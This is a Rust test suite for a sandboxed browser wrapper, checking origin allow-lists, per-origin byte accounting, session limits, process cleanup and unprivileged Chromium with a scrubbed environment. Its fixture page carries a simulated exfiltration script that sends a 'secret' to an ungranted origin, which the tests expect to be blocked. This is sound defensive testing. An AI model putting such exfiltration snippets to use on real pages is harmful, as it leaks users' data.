//! The lock-down: a page's own script cannot reach an ungranted origin, navigation to one is
//! refused, bytes are counted per origin, the session cap holds, and no browser process
//! outlives the `Browser`.

mod common;

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use pont_browser::{BrowserError, Locator, Origin};
use pont_sandbox::apps::App;
use pont_sandbox::{Sandbox, SandboxConfig};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpListener;

use common::{alive, browser, events_of, live_processes_naming, session};

const WAIT: Duration = Duration::from_secs(10);

/// Serves one page, whatever the path, whose script fetches `target` and writes the outcome
/// into `#resultat`; counts the connections it gets. Stops when the returned task is aborted.
async fn page_server(target: String) -> (String, Arc<AtomicUsize>, tokio::task::JoinHandle<()>) {
    let listener = TcpListener::bind(("127.0.0.1", 0))
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    let url = format!(
        "http://{}",
        listener.local_addr().unwrap_or_else(|e| panic!("{e}"))
    );
    let hits = Arc::new(AtomicUsize::new(0));
    let counter = hits.clone();
    let html = format!(
        "<!doctype html><html><body><h1>Exfiltration</h1><p id=\"resultat\"></p>\
         <a id=\"fuite\" href=\"{target}/demande\">fuite</a>\
         <script>fetch('{target}/demande?secret=1',{{mode:'no-cors'}})\
         .then(function(){{document.getElementById('resultat').textContent='reponse';}})\
         .catch(function(){{document.getElementById('resultat').textContent='bloque';}});</script>\
         </body></html>"
    );
    let task = tokio::spawn(async move {
        loop {
            let Ok((mut conn, _)) = listener.accept().await else {
                return;
            };
            counter.fetch_add(1, Ordering::Relaxed);
            let html = html.clone();
            tokio::spawn(async move {
                let mut buf = [0u8; 8192];
                let _ = tokio::time::timeout(Duration::from_secs(5), conn.read(&mut buf)).await;
                let resp = format!(
                    "HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{html}",
                    html.len()
                );
                let _ = conn.write_all(resp.as_bytes()).await;
                let _ = conn.shutdown().await;
            });
        }
    });
    (url, hits, task)
}

fn origin(url: &str) -> Origin {
    Origin::from_url(url).unwrap_or_else(|e| panic!("{e}"))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn page_script_cannot_reach_ungranted_origin() {
    let sb = Sandbox::start(SandboxConfig::default())
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    let casier = sb.app_url(App::Casier);
    let (page, hits, server) = page_server(casier.clone()).await;
    let b = browser().await;
    let (s, events) = session(&b, &[&page]).await;

    s.goto(&page).await.unwrap_or_else(|e| panic!("goto: {e}"));
    let resultat = Locator::StableId("resultat".into());
    let mut outcome = String::new();
    for _ in 0..100 {
        let el = s.wait_for(&resultat, WAIT).await.ok();
        if let Some(el) = el {
            outcome = el.text().await.unwrap_or_default();
        }
        if !outcome.is_empty() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert!(!outcome.is_empty(), "the page's fetch never settled");
    assert!(hits.load(Ordering::Relaxed) >= 1);

    // A navigation by the robot is refused before the browser moves.
    let err = s.goto(&format!("{casier}/demande")).await.err();
    assert!(matches!(err, Some(BrowserError::Denied(_))), "{err:?}");
    // A navigation by the page (a link) is refused by the proxy.
    let fuite = s.find(&Locator::StableId("fuite".into())).await;
    fuite
        .unwrap_or_else(|e| panic!("{e}"))
        .click()
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    tokio::time::sleep(Duration::from_millis(500)).await;

    assert!(
        sb.app_requests(App::Casier).is_empty(),
        "casier was reached"
    );
    let denied: Vec<_> = events_of(&events)
        .into_iter()
        .filter(|e| !e.allowed && e.origin == origin(&casier))
        .collect();
    assert!(
        denied.len() >= 2,
        "fetch and link not both denied: {denied:?}"
    );
    assert!(
        denied
            .iter()
            .all(|e| e.bytes_up == 0 && e.bytes_down == 0 && !e.background)
    );
    let t = s.traffic();
    assert!(
        t.get(&origin(&casier))
            .is_some_and(|t| t.denied >= 2 && t.allowed == 0)
    );
    s.close().await;
    b.shutdown().await;
    server.abort();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bytes_are_counted_per_origin() {
    let sb = Sandbox::start(SandboxConfig::default())
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    let chorus = sb.app_url(App::Chorus);
    let b = browser().await;
    let (s, events) = session(&b, &[&chorus]).await;
    s.goto(&format!("{chorus}/subvention"))
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    s.find(&Locator::StableId("siret".into()))
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    s.goto(&chorus).await.unwrap_or_else(|e| panic!("{e}"));
    s.find(&Locator::StableId("lien-paiement".into()))
        .await
        .unwrap_or_else(|e| panic!("{e}"));

    let t = s
        .traffic()
        .get(&origin(&chorus))
        .copied()
        .unwrap_or_default();
    // Two page loads: requests of a few hundred bytes up, pages of a few KiB down.
    assert!(t.allowed >= 1 && t.denied == 0, "{t:?}");
    assert!((200..100_000).contains(&t.bytes_up), "{t:?}");
    assert!((1_000..1_000_000).contains(&t.bytes_down), "{t:?}");
    assert!(t.bytes_down > t.bytes_up, "{t:?}");
    // Only granted or background origins were allowed; events sum up to the totals.
    let evs = events_of(&events);
    let ours: u64 = evs
        .iter()
        .filter(|e| e.origin == origin(&chorus))
        .map(|e| e.bytes_down)
        .sum();
    assert_eq!(ours, t.bytes_down);
    assert!(
        evs.iter()
            .all(|e| !e.allowed || e.origin == origin(&chorus))
    );
    s.close().await;
    b.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn session_cap_and_no_process_outlives_browser() {
    let sb = Sandbox::start(SandboxConfig::default())
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    let chorus = sb.app_url(App::Chorus);
    let b = browser().await;
    let root = b.root_dir().to_string_lossy().into_owned();
    let driver = b.driver_pid().unwrap_or_else(|| panic!("no driver pid"));
    let (s1, _) = session(&b, &[&chorus]).await;
    let (s2, _) = session(&b, &[&chorus]).await;
    let grants = common::Grants::new();
    let third = b
        .open_session(
            &grants.app,
            pont_browser::SessionOptions::new(Arc::new(pont_browser::AllowList::default())),
        )
        .await
        .err();
    assert!(matches!(third, Some(BrowserError::Limit(_))), "{third:?}");
    s1.goto(&chorus).await.unwrap_or_else(|e| panic!("{e}"));
    s2.goto(&chorus).await.unwrap_or_else(|e| panic!("{e}"));
    assert!(
        !live_processes_naming(&root).is_empty(),
        "chromium not found by its profile"
    );
    assert!(alive(driver));

    // An explicitly closed session frees its slot and its processes.
    s1.close().await;
    let (s3, _) = session(&b, &[&chorus]).await;
    s3.goto(&chorus).await.unwrap_or_else(|e| panic!("{e}"));

    // Dropping everything (s2 and s3 still open) leaves nothing behind.
    drop(s2);
    drop(b);
    let mut left = live_processes_naming(&root);
    for _ in 0..50 {
        if left.is_empty() && !alive(driver) {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
        left = live_processes_naming(&root);
    }
    assert!(left.is_empty(), "left behind: {left:?}");
    assert!(!alive(driver), "chromedriver {driver} still alive");
    let err = s3.current_url().await.err();
    assert!(err.is_some(), "a session of a dropped browser still works");
    drop(s3);
}

/// With `session_wait`, a session above the cap waits for one to close
/// instead of failing; past the wait it is a limit error.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_session_above_the_cap_waits_for_a_free_one() {
    let config = pont_browser::BrowserConfig {
        max_sessions: 1,
        session_wait: Duration::from_millis(1500),
        ..pont_browser::BrowserConfig::default()
    };
    let b = pont_browser::Browser::launch(config)
        .await
        .unwrap_or_else(|e| panic!("launch: {e}"));
    let grants = common::Grants::new();
    let open = || {
        b.open_session(
            &grants.app,
            pont_browser::SessionOptions::new(Arc::new(pont_browser::AllowList::default())),
        )
    };
    let first = open().await.unwrap_or_else(|e| panic!("{e}"));
    // Nobody frees the slot: the wait ends in a limit error naming it.
    let started = std::time::Instant::now();
    let refused = open().await.err();
    assert!(
        matches!(&refused, Some(BrowserError::Limit(m)) if m.contains("waited")),
        "{refused:?}"
    );
    assert!(started.elapsed() >= Duration::from_millis(1400));
    // The first session closes while the second waits: the second gets it.
    let closer = tokio::spawn(async move {
        tokio::time::sleep(Duration::from_millis(300)).await;
        first.close().await;
    });
    let second = open().await.unwrap_or_else(|e| panic!("waited, then: {e}"));
    closer.await.unwrap();
    second.close().await;
}

/// Pids of live processes whose command line contains `needle`, with their command lines.
fn processes_naming(needle: &str) -> Vec<(u32, String)> {
    let Ok(entries) = std::fs::read_dir("/proc") else {
        return Vec::new();
    };
    entries
        .filter_map(|e| e.ok()?.file_name().to_str()?.parse::<u32>().ok())
        .filter_map(|pid| {
            let raw = std::fs::read(format!("/proc/{pid}/cmdline")).ok()?;
            let cmd = String::from_utf8_lossy(&raw).replace('\0', " ");
            (cmd.contains(needle) && alive(pid)).then_some((pid, cmd))
        })
        .collect()
}

/// The real uid of `pid`.
fn uid_of(pid: u32) -> Option<u32> {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
    let line = status.lines().find(|l| l.starts_with("Uid:"))?;
    line.split_whitespace().nth(1)?.parse().ok()
}

/// When the host is root, chromedriver and every Chromium process run as `nobody`, with
/// Chromium's sandbox on and none of the host's environment (the test runner's `CARGO_*`
/// and `NEXTEST_*` variables stand for the host's secrets and `PONT_*` settings).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn chromium_runs_unprivileged_sandboxed_with_a_scrubbed_environment() {
    let sb = Sandbox::start(SandboxConfig::default())
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    let chorus = sb.app_url(App::Chorus);
    let b = browser().await;
    let (s, _) = session(&b, &[&chorus]).await;
    s.goto(&chorus).await.unwrap_or_else(|e| panic!("{e}"));
    let root = b.root_dir().to_string_lossy().into_owned();
    let mut procs = processes_naming(&root);
    let driver = b.driver_pid().unwrap_or_else(|| panic!("no driver pid"));
    procs.push((driver, "chromedriver".into()));
    assert!(procs.len() > 2, "chromium not found: {procs:?}");
    let host_is_root = uid_of(std::process::id()) == Some(0);
    for (pid, cmd) in &procs {
        let Some(uid) = uid_of(*pid) else { continue };
        if host_is_root {
            assert_eq!(uid, 65534, "{pid} runs as {uid}: {cmd}");
        }
        assert!(!cmd.contains("--no-sandbox"), "{cmd}");
        let Ok(env) = std::fs::read(format!("/proc/{pid}/environ")) else {
            continue;
        };
        let env = String::from_utf8_lossy(&env).replace('\0', "\n");
        for leaked in ["CARGO", "NEXTEST", "PONT_", "RUST"] {
            assert!(!env.contains(leaked), "{pid} has {leaked}* in {env}");
        }
    }
    s.close().await;
}

/// A permit for something else serves nothing: a navigation permit for another origin, or
/// one used as the session's, is refused with one line and the page does not move.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_permit_for_something_else_is_refused_and_nothing_moves() {
    let sb = Sandbox::start(SandboxConfig::default())
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    let chorus = sb.app_url(App::Chorus);
    let casier = sb.app_url(App::Casier);
    let b = browser().await;
    let (tab, _) = session(&b, &[&chorus, &casier]).await;
    tab.goto(&chorus).await.unwrap_or_else(|e| panic!("{e}"));
    let before = tab.current_url().await.unwrap_or_else(|e| panic!("{e}"));
    let for_chorus = tab.grants.goto(&chorus);
    let err = tab.s.goto(&for_chorus, &format!("{casier}/demande")).await;
    let Err(BrowserError::Unpermitted(msg)) = err else {
        panic!("a chorus permit took the browser to casier: {err:?}")
    };
    assert!(
        msg.contains("does not cover navigating to") && !msg.contains('\n'),
        "{msg}"
    );
    let err = tab
        .s
        .find(&for_chorus, &Locator::Css("a".into()))
        .await
        .err();
    assert!(matches!(err, Some(BrowserError::Unpermitted(_))), "{err:?}");
    assert_eq!(tab.current_url().await.ok(), Some(before));
    assert!(
        sb.app_requests(App::Casier).is_empty(),
        "casier was reached"
    );
    tab.close().await;
    b.shutdown().await;
}
